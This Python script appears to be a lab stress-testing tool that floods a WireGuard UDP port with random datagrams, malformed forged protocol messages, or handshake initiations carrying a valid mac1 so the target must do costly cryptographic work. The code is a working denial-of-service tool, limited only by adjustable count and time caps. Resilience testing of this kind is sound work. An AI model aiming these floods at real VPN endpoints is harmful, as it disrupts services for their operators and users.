#!/usr/bin/env python3
"""Hostile UDP traffic at a WireGuard port, for the netns lab only.

Every mode is bounded by a packet count and a time limit and sends only to the
one address given (a namespace address of the lab).

  wgflood.py random  --target ADDR --port P --count N [--seconds S]
      random datagrams of random length (0..1500 bytes)
  wgflood.py forged  --target ADDR --port P --count N [--seconds S]
      WireGuard-looking messages: type 1..4 headers with garbage bodies,
      truncated, over-long, non-zero reserved bytes, random receiver indexes
  wgflood.py initflood --target ADDR --port P --pubkey B64 --count N [--seconds S]
      148-byte handshake initiations with random ephemeral/static/timestamp
      but a correct mac1 for the target's public key, so the target has to do
      the expensive part (and should start answering with cookie replies)

Prints one line: mode, packets sent, seconds, rate.
"""

import argparse
import base64
import hashlib
import os
import random
import socket
import struct
import sys
import time

LABEL_MAC1 = b"mac1----"


def blake2s(data, key=b"", size=32):
    return hashlib.blake2s(data, key=key, digest_size=size).digest()


def make_socket(target):
    fam = socket.AF_INET6 if ":" in target else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
    s.setblocking(True)
    return s


def gen_random(rng):
    n = rng.randrange(0, 1501)
    return os.urandom(n)


# Correct sizes: 1 init 148, 2 response 92, 3 cookie 64, 4 data >= 32 (16+16 tag)
SIZES = {1: 148, 2: 92, 3: 64, 4: 32}


def gen_forged(rng):
    t = rng.randrange(1, 5)
    good = SIZES[t]
    choice = rng.randrange(8)
    if choice == 0:
        n = rng.randrange(1, 4)  # shorter than a header
    elif choice == 1:
        n = rng.randrange(4, good)  # truncated
    elif choice == 2:
        n = good + rng.randrange(1, 64)  # too long (fixed-size types) / odd data
    elif choice == 3:
        n = rng.randrange(good, 1500)
    else:
        n = good  # right length, garbage content
    if t == 4 and choice in (2, 3):
        n = max(n, 32)
    reserved = b"\x00\x00\x00" if rng.random() < 0.8 else os.urandom(3)
    body = os.urandom(max(0, n - 4))
    msg = bytes([t]) + reserved + body
    return msg[:n] if n < 4 else msg


class InitForger:
    def __init__(self, pubkey_b64):
        pub = base64.b64decode(pubkey_b64)
        if len(pub) != 32:
            raise SystemExit("pubkey must be 32 bytes of base64")
        self.mac1_key = blake2s(LABEL_MAC1 + pub)

    def gen(self, rng):
        # type, reserved, sender index, ephemeral, enc static, enc timestamp
        body = struct.pack("<I", 1) + struct.pack("<I", rng.getrandbits(32))
        body += os.urandom(32 + 48 + 28)
        mac1 = blake2s(body, key=self.mac1_key, size=16)
        return body + mac1 + b"\x00" * 16


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("mode", choices=["random", "forged", "initflood"])
    ap.add_argument("--target", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=60.0)
    ap.add_argument("--pubkey")
    ap.add_argument("--seed", type=int, default=None)
    a = ap.parse_args()

    if a.count > 5_000_000 or a.seconds > 600:
        raise SystemExit("refusing: keep floods bounded (count <= 5e6, seconds <= 600)")

    rng = random.Random(a.seed)
    if a.mode == "random":
        gen = gen_random
    elif a.mode == "forged":
        gen = gen_forged
    else:
        if not a.pubkey:
            raise SystemExit("initflood needs --pubkey")
        gen = InitForger(a.pubkey).gen

    s = make_socket(a.target)
    dst = (a.target, a.port)
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    sent = 0
    errors = 0
    while sent < a.count:
        pkt = gen(rng)
        try:
            s.sendto(pkt, dst)
        except OSError:
            # ECONNREFUSED from an ICMP error, ENOBUFS...: keep going
            errors += 1
        sent += 1
        if sent % 1000 == 0 and time.monotonic() > deadline:
            break
    dt = time.monotonic() - t0
    print(
        f"{a.mode}: sent {sent} datagrams to {a.target}:{a.port} in {dt:.1f} s "
        f"({sent / dt if dt > 0 else 0:.0f}/s, {errors} send errors)"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
